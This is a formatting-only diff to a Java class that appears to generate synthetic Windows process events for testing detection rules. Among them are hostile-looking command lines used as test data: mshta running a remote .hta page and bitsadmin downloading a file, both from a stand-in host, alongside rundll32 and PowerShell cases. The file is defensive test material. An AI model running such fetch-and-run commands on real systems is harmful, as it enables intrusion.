@@ -28,7 +28,8 @@ final class WindowsProcessStories implements Story {
       Planting plot, Machine on, int n, String image, String commandLine) {
     return (dice, at, _) ->
         new WindowsEvents(dice)
-            .childProcess(at, on, account(plot, n), image, commandLine, "C:\\Windows\\explorer.exe");
+            .childProcess(
+                at, on, account(plot, n), image, commandLine, "C:\\Windows\\explorer.exe");
   }
 
   private static void encoded(Planting plot) {
@@ -63,7 +64,10 @@ final class WindowsProcessStories implements Story {
         1,
         started(plot, on.get(3), 3, POWERSHELL, lines[3]));
     plot.tooEarly(
-        "before-the-window", key(plot, on.get(4), 4), 1, started(plot, on.get(4), 4, POWERSHELL, lines[4]));
+        "before-the-window",
+        key(plot, on.get(4), 4),
+        1,
+        started(plot, on.get(4), 4, POWERSHELL, lines[4]));
   }
 
   private static void tools(Planting plot) {
@@ -84,7 +88,8 @@ final class WindowsProcessStories implements Story {
         key(plot, on.get(1), 1),
         "mshta runs a page from afar.",
         1,
-        started(plot, on.get(1), 1, SYSTEM32 + "mshta.exe", "mshta.exe http://files.example/a.hta"));
+        started(
+            plot, on.get(1), 1, SYSTEM32 + "mshta.exe", "mshta.exe http://files.example/a.hta"));
     plot.nearMiss(
         "certutil-for-certificates",
         key(plot, on.get(2), 2),
@@ -96,13 +101,22 @@ final class WindowsProcessStories implements Story {
         key(plot, on.get(3), 3),
         "rundll32 opens a part of Windows.",
         2,
-        started(plot, on.get(3), 3, SYSTEM32 + "rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL"));
+        started(
+            plot,
+            on.get(3),
+            3,
+            SYSTEM32 + "rundll32.exe",
+            "rundll32.exe shell32.dll,Control_RunDLL"));
     plot.tooEarly(
         "before-the-window",
         key(plot, on.get(4), 4),
         1,
         started(
-            plot, on.get(4), 4, SYSTEM32 + "bitsadmin.exe", "bitsadmin /transfer x http://files.example/a a"));
+            plot,
+            on.get(4),
+            4,
+            SYSTEM32 + "bitsadmin.exe",
+            "bitsadmin /transfer x http://files.example/a a"));
   }
 
   private static void named(Planting plot) {
